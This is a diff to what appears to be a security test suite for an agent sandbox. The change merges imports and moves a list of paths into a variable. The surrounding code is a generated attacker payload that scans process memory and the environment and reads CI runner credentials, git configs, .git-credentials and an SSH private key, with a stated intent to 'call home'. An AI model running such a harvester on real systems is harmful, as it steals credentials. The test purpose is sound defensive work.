@@ -10,10 +10,7 @@ from __future__ import annotations
 import json
 import re
 
-
-from tests.security.harness import World
-
-from tests.security.harness import Attack, attacker
+from tests.security.harness import Attack, World, attacker
 
 EVIL_CONFIG = """sandbox: {backend: subprocess, require_isolation: false, network: true}
 policy: {refused_paths: []}
@@ -23,6 +20,17 @@ policy: {refused_paths: []}
 def _hunt(w) -> str:
     """Look everywhere the code can for the agent's secrets; print where they were found (never
     the value, so redaction cannot hide a leak), and call home with whatever was found."""
+    places = [
+        str(w.runner / ".credentials"),
+        str(w.runner / "_diag" / "Worker_20261201.log"),
+        str(w.workspace / ".git" / "config"),
+        str(w.sibling / ".credentials"),
+        str(w.sibling / "_work" / "o" / "o" / ".git" / "config"),
+        str(w.sibling / "_work" / "_temp" / "_github_workflow" / "event.json"),
+        str(w.home / ".git-credentials"),
+        str(w.home / ".ssh" / "id_ed25519"),
+        str(w.file_commands / "set_env"),
+    ]
     return f"""
 import glob, os, socket
 found = []
@@ -37,10 +45,7 @@ for d in glob.glob('/proc/[0-9]*'):
         except OSError:
             pass
 hit('env', repr(dict(os.environ)))
-for p in {[str(w.runner / ".credentials"), str(w.runner / "_diag" / "Worker_20261201.log"), str(w.workspace / ".git" / "config"),
-           str(w.sibling / ".credentials"), str(w.sibling / "_work" / "o" / "o" / ".git" / "config"),
-           str(w.sibling / "_work" / "_temp" / "_github_workflow" / "event.json"), str(w.home / ".git-credentials"),
-           str(w.home / ".ssh" / "id_ed25519"), str(w.file_commands / "set_env")]!r}:
+for p in {places!r}:
     try:
         hit(p, open(p).read())
     except OSError:
